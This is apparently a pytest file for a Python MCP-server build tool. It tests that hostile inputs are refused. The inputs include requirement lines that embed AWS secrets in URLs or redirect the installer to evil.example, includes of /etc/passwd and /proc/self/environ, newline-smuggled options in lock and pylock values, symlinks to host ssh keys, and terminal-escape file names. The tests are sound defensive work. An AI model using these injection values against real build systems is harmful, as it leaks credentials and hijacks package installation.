"""Hostile sources, requirements, assets and error text (issue "Untrusted input").

Every case here failed on the code before it: secrets sent by the installer, host files
packaged through asset symlinks, colliding or unnormalised package paths, .env files
and node_modules shipped, markup applied to error text."""

from __future__ import annotations

import hashlib
import json
import os
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from pmcp_build.layout.python_deps import uv_environment

from .helpers import HOST_ARCH, HOST_PY, python_project, zip_with

CANARY = "canary-0f9e8d7c6b5a"


@pytest.fixture
def listener() -> Any:
    """A loopback HTTP server that records every request it receives."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()


def _one_line(result: Any, fragment: str) -> None:
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert fragment in lines[0], lines[0]
    assert "Traceback" not in result.output and "internal error" not in result.output


# -- requirements may not read the build machine ------------------------------------------


def test_env_reference_in_requirements_sends_nothing(
    cli: Any, tmp_path: Path, listener: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, seen = listener
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    monkeypatch.delenv("UV_OFFLINE")  # let uv try: it must never be asked to
    requirement = f"pkg @ {url}/x/${{AWS_SECRET_ACCESS_KEY}}/pkg-1.0-py3-none-any.whl\n"
    project = python_project(tmp_path / "p", requirements=requirement)
    result = cli("-C", str(project), "build")
    _one_line(result, "requirements.txt:1: environment variable references")
    assert CANARY not in result.output
    assert seen == []


@pytest.mark.parametrize(
    "line, fragment",
    [
        ("-r /proc/self/environ", "outside the source"),
        ("--requirement=../../etc/passwd", "outside the source"),
        ("-c /etc/hosts", "outside the source"),
        ("-e .", "editable installs"),
        ("-r missing.txt", "does not exist"),
    ],
)
def test_requirement_includes_stay_in_the_source(
    cli: Any, tmp_path: Path, line: str, fragment: str
) -> None:
    project = python_project(tmp_path / "p", requirements=f"{line}\n")
    _one_line(cli("-C", str(project), "build"), fragment)


def test_uv_sees_an_allowlisted_environment(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    monkeypatch.setenv("GITHUB_TOKEN", CANARY)
    monkeypatch.setenv("UV_FIND_LINKS", "/wheels")
    env = uv_environment(tmp_path)
    assert CANARY not in json.dumps(env)
    assert env["UV_FIND_LINKS"] == "/wheels" and "PATH" in env


def _url_source(tmp_path: Path, http_dir: Any, files: dict[str, bytes]) -> Path:
    root, base = http_dir
    archive = zip_with(root / "src.zip", [(k, v, 0o644) for k, v in files.items()])
    sha = hashlib.sha256(archive.read_bytes()).hexdigest()
    project = tmp_path / "url-project"
    project.mkdir()
    (project / "metorial.toml").write_text(
        f'[server]\nname = "remote"\n[source]\nurl = "{base}/src.zip"\nsha256 = "{sha}"\n'
        f'[runtime]\nkind = "python"\npython = "{HOST_PY}"\narchitecture = "{HOST_ARCH}"\n'
    )
    return project


SERVER = b"from boot import metorial\nmetorial.create_server('r')\n"


@pytest.mark.parametrize(
    "requirements, fragment",
    [
        (b"--extra-index-url http://127.0.0.1:1/simple\n", "--extra-index-url is refused"),
        (b"pkg @ http://127.0.0.1:1/pkg-1.0-py3-none-any.whl\n", "direct references"),
        (b"git+https://127.0.0.1:1/repo.git\n", "direct references"),
    ],
)
def test_url_source_may_not_redirect_the_installer(
    cli: Any, tmp_path: Path, http_dir: Any, requirements: bytes, fragment: str
) -> None:
    project = _url_source(
        tmp_path, http_dir, {"server.py": SERVER, "requirements.txt": requirements}
    )
    _one_line(cli("-C", str(project), "build"), fragment)


# -- only what belongs ships ------------------------------------------------------------------


def test_an_unreadable_source_folder_is_one_line_not_a_silent_gap(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, the walk (os.walk) skipped a folder it could not list and packaged the
    rest: a server missing files, deployed. Permissions cannot deny root, so the
    listing is made to fail as it does for another user."""
    from pmcp_build.source import tree

    project = python_project(tmp_path / "p")
    (project / "private").mkdir()
    (project / "private" / "tools.py").write_text("X = 1\n")
    scandir = os.scandir

    def denied(path: Any) -> Any:
        if str(path).endswith("private"):
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(tree.os, "scandir", denied)
    result = cli("-C", str(project), "build")
    assert result.exit_code == 1, result.output
    assert result.stderr.strip() == (
        "error: private/: cannot be read (Permission denied); fix its permissions or add it "
        "to [source].exclude"
    )


def test_a_symlink_loop_in_the_source_is_one_line(cli: Any, tmp_path: Path) -> None:
    """Before: `internal error: RuntimeError: Symlink loop` (and OSError ELOOP from the
    scandir walk). Excluded, it is simply left out."""
    project = python_project(tmp_path / "p")
    (project / "a").symlink_to("b")
    (project / "b").symlink_to("a")
    result = cli("-C", str(project), "build")
    assert result.exit_code == 1, result.output
    assert result.stderr.strip() == (
        "error: a: symlink cannot be resolved (a loop); remove it or add it to [source].exclude"
    )
    toml = project / "metorial.toml"
    toml.write_text(
        toml.read_text().replace("[runtime]", '[source]\nexclude = ["a", "b"]\n\n[runtime]')
    )
    assert cli("-C", str(project), "build").exit_code == 0


SPOOF = "x\n  = lambda tiny-prod  # up to date\n\u202eevil"


def test_a_file_name_cannot_add_lines_to_the_plan(cli: Any, tmp_path: Path) -> None:
    """Before, a source file named with a newline printed as lines of its own in the
    build and plan output a person reviews. Packaged, it is refused; left out, it is
    shown escaped; and a name that is not UTF-8 is one line, not an internal error."""
    project = python_project(tmp_path / "p")
    (project / SPOOF).write_text("spoof")
    result = cli("-C", str(project), "build")
    assert result.exit_code == 1, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    assert "holds a control or bidirectional-override character" in result.stderr

    (project / ".gitignore").write_text("x*\n")
    built = cli("-C", str(project), "build")
    assert built.exit_code == 0, built.output
    assert "= lambda" not in "".join(
        line for line in built.stdout.splitlines() if not line.startswith("├─ left out: x")
    )
    assert "left out: x\\n  = lambda tiny-prod  # up to date\\n\\u202eevil" in built.stdout

    (project / ".gitignore").unlink()
    (project / SPOOF).unlink()
    (project / os.fsdecode(b"bad\xffname.txt")).write_text("x")
    bad = cli("-C", str(project), "build")
    assert bad.exit_code == 1 and "internal error" not in bad.stderr
    assert "bad\\xffname.txt: the file name is not valid UTF-8" in bad.stderr


def test_a_lock_cannot_add_options_to_what_uv_reads(cli: Any, tmp_path: Path) -> None:
    """metorial.lock's names and versions become the requirements file uv installs; a
    downloaded source brings its own. Before, a name holding a newline added any option
    it liked (`--index-url`, `-r /etc/...`) past the requirements policy whenever the
    lock's inputs digest matched, which the attacker can compute."""
    import re

    project = python_project(tmp_path / "p")
    assert cli("-C", str(project), "build").exit_code == 0
    lock = project / "metorial.lock"
    text = lock.read_text()
    name = re.search(r'name = "([^"]+)"', text)
    assert name is not None
    injected = f'name = "{name.group(1)}==0 \\n--index-url http://127.0.0.1:9/simple\\n#"'
    lock.write_text(text.replace(name.group(0), injected, 1))
    result = cli("-C", str(project), "build")
    assert result.exit_code == 1, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    assert "unreadable lock (name" in result.stderr and "is not a valid name" in result.stderr
    assert "\\n--index-url" in result.stderr  # shown escaped, on one line


def test_one_line_escapes_what_could_drive_a_terminal() -> None:
    from pmcp_build.text import one_line

    assert one_line("a\nb\x1b[2J\u202ec\u2028d\te") == "a\\nb\\x1b[2J\\u202ec\\u2028d\\te"
    assert one_line("plain ü 名前") == "plain ü 名前"


def test_gitignore_and_secret_files_are_left_out_and_said(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p")
    (project / ".env").write_text(f"TOKEN={CANARY}\n")
    (project / "node_modules" / "x").mkdir(parents=True)
    (project / "node_modules" / "x" / "index.js").write_text("//")
    (project / "logs").mkdir()
    (project / "logs" / "a.log").write_text("log")
    (project / "keep.log").write_text("kept")
    (project / ".gitignore").write_text("logs/\n*.log\n!keep.log\n")
    (project / "sub").mkdir()
    (project / "sub" / ".gitignore").write_text("secret.txt\n")
    (project / "sub" / "secret.txt").write_text(CANARY)
    (project / "sub" / "ok.txt").write_text("ok")
    result = cli("-C", str(project), "build", "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    files = {f["path"] for f in data["layout"]["files"]}
    assert {"keep.log", "sub/ok.txt", "server.py"} <= files
    assert not files & {".env", "logs/a.log", "sub/secret.txt", "node_modules/x/index.js"}
    reasons = {x["path"]: x["reason"] for x in data["layout"]["left_out"]}
    assert reasons["logs/"] == ".gitignore" and reasons["sub/secret.txt"] == "sub/.gitignore"
    assert "secret-like" in reasons[".env"]
    text = cli("-C", str(project), "build").stdout
    assert "left out: .env  (secret-like file" in text
    with zipfile.ZipFile(next((project / ".pmcp" / "dist").glob("*.zip"))) as zf:
        assert all(CANARY.encode() not in zf.read(n) for n in zf.namelist())


def test_an_asset_may_name_a_secret_file_explicitly(cli: Any, tmp_path: Path) -> None:
    project = python_project(
        tmp_path / "p", extra='[[assets]]\nfrom = "config.env"\nto = "config.env"\n'
    )
    (project / "config.env").write_text("MODE=prod\n")
    files = {
        f["path"]
        for f in json.loads(cli("-C", str(project), "build", "--json").stdout)["layout"]["files"]
    }
    assert "config.env" in files


# -- errors are text --------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["[/red]", "[bold]evil", "[/]", "a[/x]b"])
def test_markup_in_user_values_is_printed_as_text(cli: Any, tmp_path: Path, name: str) -> None:
    project = python_project(tmp_path / "p")
    toml = project / "metorial.toml"
    toml.write_text(toml.read_text().replace('name = "tiny"', f'name = "{name}"'))
    result = cli("-C", str(project), "validate")
    _one_line(result, name)


def test_our_bracketed_names_survive(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p", extra="")
    toml = project / "metorial.toml"
    toml.write_text(
        toml.read_text().replace('kind = "python"', 'kind = "python"\nentrypoint = "no.py"')
    )
    result = cli("-C", str(project), "build")
    _one_line(result, "[runtime].entrypoint")


def test_long_values_are_cut(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p")
    toml = project / "metorial.toml"
    toml.write_text(toml.read_text() + f"\n[{'k' * 2_000_000}]\nx = 1\n")
    result = cli("-C", str(project), "validate")
    assert result.exit_code == 1
    assert len(result.stderr) < 2000 and len(result.stderr.splitlines()) == 1
    assert os.path.exists(toml)


# -- assets stay inside the source ------------------------------------------------------------


def _asset_project(tmp_path: Path, src: str, to: str) -> Path:
    return python_project(tmp_path / "p", extra=f'[[assets]]\nfrom = "{src}"\nto = "{to}"\n')


@pytest.mark.parametrize("kind", ["file", "folder", "glob"])
def test_asset_symlinks_to_host_files_are_refused(cli: Any, tmp_path: Path, kind: str) -> None:
    outside = tmp_path / "host"
    (outside / "ssh").mkdir(parents=True)
    (outside / "passwd").write_text(CANARY)
    (outside / "ssh" / "id").write_text(CANARY)
    if kind == "file":
        project = _asset_project(tmp_path, "data.txt", "data.txt")
        (project / "data.txt").symlink_to(outside / "passwd")
    elif kind == "folder":
        project = _asset_project(tmp_path, "keys", "keys")
        (project / "keys").symlink_to(outside / "ssh", target_is_directory=True)
    else:
        project = _asset_project(tmp_path, "data/*.txt", "data")
        (project / "data").mkdir()
        (project / "data" / "ok.txt").write_text("ok")
        (project / "data" / "evil.txt").symlink_to(outside / "passwd")
    result = cli("-C", str(project), "build")
    assert result.exit_code == 1, result.output
    assert "symlink" in result.stderr or "outside the source" in result.stderr, result.stderr
    assert CANARY not in result.output
    assert (
        not list((project / ".pmcp" / "dist").glob("*.zip"))
        if (project / ".pmcp").exists()
        else True
    )


@pytest.mark.parametrize(
    "to, fragment",
    [
        ("./index.py", "two files want the package path 'index.py'"),
        ("./server.py", "two files want the package path 'server.py'"),
        ("./__metorial__/metorial.py", "__metorial__"),
        ("a//../b", "no '..'"),
    ],
)
def test_asset_destinations_are_normalised_before_collision_checks(
    cli: Any, tmp_path: Path, to: str, fragment: str
) -> None:
    project = _asset_project(tmp_path, "data.txt", to)
    (project / "data.txt").write_text("x")
    _one_line(cli("-C", str(project), "build"), fragment)


def test_unnormalised_asset_path_ships_normalised(cli: Any, tmp_path: Path) -> None:
    project = _asset_project(tmp_path, "./data.txt", "a//data.txt")
    (project / "data.txt").write_text("x")
    result = cli("-C", str(project), "build", "--json")
    assert result.exit_code == 0, result.output
    files = {f["path"] for f in json.loads(result.stdout)["layout"]["files"]}
    assert "a/data.txt" in files and "a//data.txt" not in files


# -- a package that cannot start is not ok ---------------------------------------------------


def test_excluded_entrypoint_is_an_error(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p")
    toml = project / "metorial.toml"
    toml.write_text(
        toml.read_text()
        .replace('kind = "python"', 'kind = "python"\nentrypoint = "server.py"')
        .replace("[targets.dev]", '[source]\nexclude = ["server.py"]\n\n[targets.dev]')
    )
    _one_line(cli("-C", str(project), "build"), "'server.py' is left out of the package")


def test_inspect_reports_a_handler_whose_server_module_is_missing(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p")
    assert cli("-C", str(project), "build").exit_code == 0
    built = next((project / ".pmcp" / "dist").glob("*.zip"))
    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(built) as src, zipfile.ZipFile(broken, "w") as dst:
        for info in src.infolist():
            if info.filename != "server.py":
                dst.writestr(info, src.read(info))
    result = cli("inspect", str(broken))
    assert result.exit_code == 1
    assert "index.py loads server.py, which is not in the package" in result.stderr
    assert cli("inspect", str(built)).exit_code == 0


def test_validate_checks_named_paths(cli: Any, tmp_path: Path) -> None:
    project = python_project(tmp_path / "p")
    toml = project / "metorial.toml"
    toml.write_text(
        toml.read_text().replace('kind = "python"', 'kind = "python"\nrequirements = "reqs.txt"')
    )
    _one_line(
        cli("-C", str(project), "validate"), "[runtime].requirements: 'reqs.txt' does not exist"
    )


# -- found by an audit of the dependency sources and `inspect` (each failed before) -------


def _one_error_line(result: Any, says: str) -> None:
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert says in result.stderr, result.stderr


PYLOCK_WHEEL = '{ name = "humanize-4.17.0-py3-none-any.whl", hashes = { sha256 = "aa" } }'


@pytest.mark.parametrize(
    ("package", "says"),
    [
        # a newline added `-r /etc/passwd` (read by uv) or `--find-links` lines
        (f'name = "humanize\\n-r /etc/passwd\\n#"\nversion = "4.17.0"\nwheels = [{PYLOCK_WHEEL}]',
         "is not a package name"),
        (f'name = "humanize"\nversion = "9\\n--find-links /tmp\\n#"\nwheels = [{PYLOCK_WHEEL}]',
         "is not an exact version"),
        (f'name = "humanize"\nversion = "4.17.0"\nmarker = "x\\n-r /etc/passwd"\n'
         f"wheels = [{PYLOCK_WHEEL}]", "marker must be one line"),
        # internal error: AttributeError
        ('name = "humanize"\nversion = "4.17.0"\nwheels = [{ name = "h.whl", hashes = "x" }]',
         "wheels must be tables with a hashes table"),
    ],
)  # fmt: skip
def test_pylock_values_cannot_add_lines_for_uv(
    cli: Any, tmp_path: Path, package: str, says: str
) -> None:
    project = python_project(tmp_path / "p")
    (project / "pylock.toml").write_text(f'lock-version = "1.0"\n[[packages]]\n{package}\n')
    _one_error_line(cli("-C", str(project), "build"), says)


@pytest.mark.parametrize(
    "project_table",
    [
        "dependencies = 7",
        'dependencies = ["humanize"]\ndynamic = 5',
        'dependencies = []\noptional-dependencies = ["a"]',
        'dependencies = ["humanize @@\\nbuild: ok \\u001b[32mPASS"]',
    ],
)
def test_pyproject_of_the_wrong_shape_is_one_line(
    cli: Any, tmp_path: Path, project_table: str
) -> None:
    project = python_project(tmp_path / "p", extra='extras = ["a"]\n')
    (project / "pyproject.toml").write_text(f'[project]\nname = "x"\n{project_table}\n')
    result = cli("-C", str(project), "build")
    _one_error_line(result, "pyproject.toml")
    assert "\x1b" not in result.stderr


def test_requirements_policy_sees_what_uv_sees(tmp_path: Path) -> None:
    from pmcp_build.errors import UserError
    from pmcp_build.layout.requirements_policy import checked_text

    root = tmp_path / "src"
    root.mkdir()
    req = root / "requirements.txt"
    # `name@url` without spaces is a direct reference too (it reached uv before).
    # And as written: shlex reads `#` in a word as a comment, uv does not.
    for line in (
        "humanize@https://evil.example/x.whl",
        "humanize@ https:evil.example/x?y",
        "humanize#@https://evil.example/x.whl",
    ):
        req.write_text(line + "\n")
        with pytest.raises(UserError, match="direct references"):
            checked_text(req, root, remote_source=True)
    # A form feed ends a line for Python, not for uv.
    req.write_text("humanize\f--index-url https://evil.example/\n")
    with pytest.raises(UserError, match="control character"):
        checked_text(req, root, remote_source=True)
    # A marker keeps its quotes (shlex's tokens dropped them: uv then refused the line).
    req.write_text('humanize ; python_version >= "3.8"  # why\n')
    assert checked_text(req, root, False).splitlines()[1] == 'humanize ; python_version >= "3.8"'
    # An include is inlined (uv reads a copy elsewhere, where `-r other.txt` pointed at
    # nothing); a constraints file is refused in one line instead of failing in uv.
    (root / "other.txt").write_text("anyio\n")
    req.write_text("-r other.txt\nhumanize\n")
    assert checked_text(req, root, False).splitlines() == [
        "# requirements.txt", "# -r other.txt", "# other.txt", "anyio", "humanize"
    ]  # fmt: skip
    req.write_text("-c other.txt\n")
    with pytest.raises(UserError, match="constraints files"):
        checked_text(req, root, False)
    # The file's own name heads the text: a newline in it must not start a line for uv.
    named = root / "r\n--index-url http:evil.example\n#.txt"
    named.write_text("humanize\n")
    text = checked_text(named, root, remote_source=True)
    assert not any(line.startswith("--index-url") for line in text.splitlines())


def test_inspect_reads_a_hostile_zip_without_crashing(cli: Any, tmp_path: Path) -> None:
    handler = "def handler(event, context):\n    return {}\n"
    good = tmp_path / "good.zip"
    with zipfile.ZipFile(good, "w") as zf:  # stored: the bytes are there to alter
        zf.writestr("index.py", handler)
        zf.writestr("m.py", "X = 1\n")
    data = bytearray(good.read_bytes())
    at = data.index(b"X = 1")
    data[at] = ord("Y")  # the CRC no longer matches: `BadZipFile` escaped before
    bad = tmp_path / "bad.zip"
    bad.write_bytes(bytes(data))
    _one_error_line(cli("inspect", str(bad)), "cannot be read")

    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("index.py", handler)
        zf.writestr("zeros.bin", bytes(8 * 2**20))  # 8 MB of zeros: ~1000:1
    _one_error_line(cli("inspect", str(bomb)), "inflates 200:1 or more")

    spoof = tmp_path / "spoof.zip"
    with zipfile.ZipFile(spoof, "w") as zf:
        zf.writestr("index.py", handler)
        zf.writestr("pkg\nok: no problems found\x1b[31m/__pycache__/m.cpython-311.pyc", bytes(16))
    result = cli("inspect", str(spoof))
    lines = result.output.splitlines()
    assert sum(line.startswith("ok: no problems") for line in lines) == 1  # inspect's own
    assert "\x1b" not in result.output
